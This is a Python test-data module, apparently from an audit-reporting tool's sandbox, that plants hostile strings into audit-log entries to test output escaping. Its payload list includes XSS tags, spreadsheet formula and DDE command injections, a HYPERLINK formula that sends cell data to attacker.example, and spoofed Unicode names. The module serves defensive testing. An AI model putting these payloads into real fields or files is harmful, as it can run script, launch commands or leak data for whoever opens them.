"""Hostile data: what an insider types into free-text fields to hide, or to reach the reader.

Everything a member can type ends up in what auditlab writes (the report,
notebooks, CSV, Parquet). ``add_hostile`` puts such text into every
free-text field of a share of entries: the names of the assistant, workflow,
connection and broadcast, the display names of the actor, the user and the
affected member, the browser agent and the metadata. The payloads are markup
and script, spreadsheet formulas, direction overrides and zero-width
characters, template syntax and sizes: a 100,000-character string, and 5 MB of
metadata in a few entries. Entries are rewritten in place as copies (nested
objects are shared between entries), deterministically for the random
generator, and the planted incidents are spared.
"""

from __future__ import annotations

import random
from collections.abc import Iterable
from typing import Any

from auditlab.sandbox.entries import Entry
from auditlab.sandbox.incidents import Incident

LONG_TEXT_CHARS = 100_000
BIG_METADATA_BYTES = 5_000_000

PAYLOADS: tuple[str, ...] = (
    # markup and script: an HTML page that shows them unescaped runs or shows them
    '<script>alert("auditlab")</script>',
    '<img src=x onerror="alert(1)">',
    '"><svg onload=alert(1)>',
    "</td></tr></table><h1 id=injected>Injected</h1>",
    # plotly draws a few tags in chart text: a link and a style would be live
    '<a href="https://attacker.example/">Ana Silva</a>',
    '<span style="font-size:80px">admin</span>',
    # spreadsheet formulas (CSV injection)
    '=HYPERLINK("https://attacker.example/?d="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # names that lie: a right-to-left override, a zero-width space, an isolate
    "Mallory\u202egnp.exe",
    "Ana\u200b Silva",
    "\u2067admin\u2069 Build Bot",
    # template syntax a renderer might evaluate
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    # a name no layout expects, no spaces to break it at
    "=" + "W" * (LONG_TEXT_CHARS - 1),
)
# Where an entry holds text a member typed: a path to a string.
TEXT_FIELDS: tuple[tuple[str, ...], ...] = (
    ("assistant", "name"),
    ("workflow", "name"),
    ("connection", "name"),
    ("broadcast", "name"),
    ("actor", "name"),
    ("user", "name"),
    ("member", "user", "name"),
)


def big_metadata(payload: str) -> dict[str, Any]:
    """Return metadata of about ``BIG_METADATA_BYTES`` bytes of JSON, the payload repeated.

    >>> len(big_metadata("<b>x</b>")["instructions"]) >= BIG_METADATA_BYTES
    True
    """
    return {"instructions": payload * (BIG_METADATA_BYTES // len(payload) + 1), "note": payload}


def add_hostile(
    entries: list[Entry],
    rate: float,
    rng: random.Random,
    keep: Iterable[Incident] = (),
    *,
    heavy: int = 1,
    every_actor: bool = False,
) -> int:
    """Return how many entries got hostile text; a share ``rate`` of ``entries`` is rewritten.

    In each chosen entry every free-text field present (``TEXT_FIELDS``, the
    ``agent`` and the metadata) gets a payload drawn from ``PAYLOADS``; the
    first ``heavy`` chosen entries get ``big_metadata`` instead of small
    metadata. With ``every_actor``, the newest entry of every actor is chosen
    too, its display name the next of ``PAYLOADS`` in turn: a report shows a
    person by their latest name, so every payload reaches the report. The
    entries of ``keep`` are never chosen. ``entries`` are newest first.

    >>> entries = [{"id": "a", "agent": "Firefox", "actor": {"id": "u", "name": "Ana"},
    ...             "metadata": None}]
    >>> entries[0]["user"] = entries[0]["actor"]
    >>> add_hostile(entries, 0.0, random.Random(0), heavy=0, every_actor=True)
    1
    >>> entries[0]["actor"]["name"] == PAYLOADS[0], entries[0]["user"] is entries[0]["actor"]
    (True, True)
    """
    protected = {entry_id for incident in keep for entry_id in incident.entry_ids}
    named: set[str] = set()
    changed = 0
    for n, entry in enumerate(entries):
        if entry["id"] in protected:
            continue
        actor = entry.get("actor")
        actor_id = actor.get("id") if isinstance(actor, dict) else None
        newest = every_actor and actor_id is not None and actor_id not in named
        if not newest and rng.random() >= rate:
            continue
        name = PAYLOADS[len(named) % len(PAYLOADS)] if newest else None
        entries[n] = _hostile(entry, rng, big=changed < heavy, name=name)
        changed += 1
        if newest:
            named.add(actor_id)
    return changed


def _hostile(entry: Entry, rng: random.Random, *, big: bool, name: str | None) -> Entry:
    """Return a copy of entry with a payload in each free-text field (``name``: the actor's)."""

    def payload() -> str:
        return PAYLOADS[rng.randrange(len(PAYLOADS))]

    new = dict(entry)
    copies: dict[int, dict[str, Any]] = {}  # id of a shared object -> its one copy here
    for path in TEXT_FIELDS:
        holder: dict[str, Any] = new
        for key in path[:-1]:
            inner = holder.get(key)
            if not isinstance(inner, dict):
                break
            holder[key] = copies.setdefault(id(inner), dict(inner))
            holder = holder[key]
        else:
            if isinstance(holder.get(path[-1]), str):
                holder[path[-1]] = name if name is not None and path[0] == "actor" else payload()
    if name is not None and new.get("user") is new.get("actor"):
        new["actor"]["name"] = name
    if entry.get("agent") is not None:
        new["agent"] = payload()
    new["metadata"] = big_metadata(payload()) if big else {"note": payload(), "title": payload()}
    return new
